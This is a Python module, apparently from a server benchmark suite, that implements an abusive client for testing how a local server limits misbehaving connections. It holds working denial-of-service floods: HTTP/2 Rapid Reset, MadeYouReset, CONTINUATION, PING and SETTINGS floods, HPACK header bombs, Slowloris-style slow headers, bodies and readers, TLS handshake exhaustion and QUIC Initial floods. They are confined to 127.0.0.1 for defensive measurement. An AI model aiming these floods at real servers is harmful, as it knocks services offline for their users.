"""A client that misbehaves at a fixed rate, beside the good ones of the scenario `abuse`.

    python3 -m pearbench.offender KIND PORT RATE

It goes on until its standard input ends, then prints a line of JSON: what it sent, and how often the
server cut it off; whoever is cut comes back at once. Only to 127.0.0.1."""

import collections
import json
import os
import select
import socket
import ssl
import struct
import sys
import time

TICK_S = 0.005
SOURCE = ("127.0.0.9", 0)  # What is counted by address is not the good clients'.

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = 0, 1, 2, 3, 4
PING, WINDOW_UPDATE, CONTINUATION = 6, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def literal(name, value, remember=False):
    """A field without Huffman coding (RFC 7541, section 6.2); values of up to 16,000 bytes."""
    rest = len(value) - 127
    length = bytes([len(value)] if rest < 0 else [127, rest & 0x7F | 0x80, rest >> 7])
    return (b"\x40" if remember else b"\x00") + bytes([len(name)]) + name + length + value


def request(method=b"GET", path=b"/"):
    return (literal(b":method", method) + literal(b":scheme", b"http")
            + literal(b":authority", b"localhost") + literal(b":path", path))


# ---- Floods of HTTP/2: what is sent first on a connection, and then `count` frames more.

class Http2:
    first_settings = b""

    def __init__(self):
        self.stream = -1

    def begin(self):
        return PREFACE + frame(SETTINGS, 0, 0, self.first_settings)

    def open(self, flags=END_STREAM | END_HEADERS, block=request()):
        self.stream += 2
        return frame(HEADERS, flags, self.stream, block)


class RapidReset(Http2):
    def frames(self, count):
        return b"".join(self.open() + frame(RST_STREAM, 0, self.stream, b"\0\0\0\x08")
                        for _ in range(count // 2))


class MadeYouReset(Http2):
    """The server is made to reset: a window is opened by nothing (RFC 9113, section 6.9)."""

    def frames(self, count):
        return b"".join(self.open() + frame(WINDOW_UPDATE, 0, self.stream, bytes(4))
                        for _ in range(count // 2))


class Continuations(Http2):
    def begin(self):
        return super().begin() + self.open(END_STREAM)

    def frames(self, count):
        return frame(CONTINUATION, 0, self.stream, literal(b"a", b"b")) * count


class Pings(Http2):
    def frames(self, count):
        return frame(PING, 0, 0, bytes(8)) * count


class Settings(Http2):
    def frames(self, count):
        return frame(SETTINGS, 0, 0) * count


class EmptyData(Http2):
    def begin(self):
        return super().begin() + self.open(END_HEADERS, request(b"POST", b"/echo"))

    def frames(self, count):
        return frame(DATA, 0, self.stream) * count


class Priorities(Http2):
    def frames(self, count):
        self.stream += 2
        return frame(PRIORITY, 0, self.stream + 2, b"\0\0\0\0\x10") * count


class TinyWindows(Http2):
    def frames(self, count):
        return frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01") * count


class HeaderBombs(Http2):
    """4,000 bytes in the table, named 4,000 times in each request."""

    def begin(self):
        return super().begin() + self.open(block=request() + literal(b"a", b"b" * 4000, remember=True))

    def frames(self, count):
        return b"".join(self.open(block=request() + b"\xbe" * 4000) for _ in range(count))


class StalledReaders(Http2):
    """Responses for which no window is ever opened."""

    first_settings = b"\x00\x04\x00\x00\x00\x00"

    def frames(self, count):
        return b"".join(self.open(block=request(path=b"/json")) for _ in range(count))


class Flood:
    def __init__(self, kind, port):
        self._kind, self._port = kind, port
        self.sent = self.cuts = 0
        self._socket = None

    def tick(self, count):
        if self._socket is None:
            self._connection = self._kind()
            self._socket = socket.create_connection(("127.0.0.1", self._port), source_address=SOURCE)
            self._socket.setblocking(False)
            self._unsent = self._connection.begin()
        if len(self._unsent) < 1 << 20:  # A server that reads no more gets no more.
            self._unsent += self._connection.frames(count)
            self.sent += count
        try:
            self._unsent = self._unsent[self._socket.send(self._unsent):]
        except BlockingIOError:
            pass
        except OSError:
            return self._cut()
        try:
            while heard := self._socket.recv(1 << 16):
                pass
        except BlockingIOError:
            return
        except OSError:
            heard = b""
        if not heard:
            self._cut()

    def _cut(self):
        self.cuts += 1
        self._socket.close()
        self._socket = None


# ---- Many connections.

class Crowd:
    """So many connections that say a little now and then: each tick some of them speak."""

    SIZE = 1000

    def __init__(self, port, first, then, read=True):
        self._port, self._first, self._then, self._read = port, first, then, read
        self._members = collections.deque()
        self.sent = self.cuts = 0

    def tick(self, count):
        for _ in range(count):
            if len(self._members) < self.SIZE:
                self._join()
                continue
            member = self._members.popleft()
            try:
                if self._then:
                    member.send(self._then)
                if self._read and not member.recv(4096):
                    raise ConnectionError
            except BlockingIOError:
                pass
            except OSError:
                self.cuts += 1
                member.close()
                self._join()
                continue
            self.sent += 1
            self._members.append(member)

    def _join(self):
        member = socket.socket()
        member.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        member.bind(SOURCE)
        member.connect(("127.0.0.1", self._port))
        member.setblocking(False)
        member.send(self._first)
        self.sent += 1
        self._members.append(member)


class Hellos:
    """Handshakes that are begun and left alone: each costs the server a signature."""

    WAITING = 100  # So many are left open, so that the server has the time to answer.

    def __init__(self, port):
        self._port = port
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        outgoing = ssl.MemoryBIO()
        tls = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost")
        try:
            tls.do_handshake()
        except ssl.SSLWantReadError:
            pass
        self._hello = outgoing.read()
        self._open = collections.deque()
        self.sent = self.cuts = 0

    def tick(self, count):
        for _ in range(count):
            try:
                one = socket.create_connection(("127.0.0.1", self._port), source_address=SOURCE)
                one.send(self._hello)
                self._open.append(one)
                self.sent += 1
            except OSError:
                self.cuts += 1
            if len(self._open) > self.WAITING:
                self._open.popleft().close()


class QuicInitials:
    """First packets of connections that nobody means: each of its own id, and none that can be opened."""

    def __init__(self, port):
        self._to = ("127.0.0.1", port)
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._socket.bind(SOURCE)
        self._body = b"\x00\x00\x44\x94" + os.urandom(1172)  # No source id, no token, 1,172 bytes.
        self.sent = self.cuts = 0

    def tick(self, count):
        for _ in range(count):
            self.sent += 1
            self._socket.sendto(b"\xc0\x00\x00\x00\x01\x08" + self.sent.to_bytes(8) + self._body, self._to)


POST_HEAD = b"POST /echo HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\n"
HTTP2 = {"rapid_reset": RapidReset, "made_you_reset": MadeYouReset, "continuations": Continuations,
         "pings": Pings, "settings": Settings, "empty_data": EmptyData, "priorities": Priorities,
         "tiny_windows": TinyWindows, "header_bombs": HeaderBombs, "stalled_readers": StalledReaders}
OTHERS = {
    "slow_heads": lambda port: Crowd(port, b"GET / HTTP/1.1\r\nHost: a\r\nX: ", b"a"),
    "slow_bodies": lambda port: Crowd(port, POST_HEAD, b"a"),
    "slow_readers": lambda port: Crowd(port, b"GET /json HTTP/1.1\r\nHost: a\r\n\r\n" * 10, b"", read=False),
    "tls_hellos": Hellos,
    "quic_initials": QuicInitials,
}


def main(kind, port, rate):
    offender = Flood(HTTP2[kind], port) if kind in HTTP2 else OTHERS[kind](port)
    begin, done = time.monotonic(), 0
    while not select.select([sys.stdin], [], [], TICK_S)[0]:
        due = int((time.monotonic() - begin) * rate) - done
        count = min(due, max(2, int(rate * 0.1)))  # What was missed by more than that is not made up.
        offender.tick(count)
        done += due
    print(json.dumps({"sent": offender.sent, "cuts": offender.cuts,
                      "seconds": time.monotonic() - begin}))


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
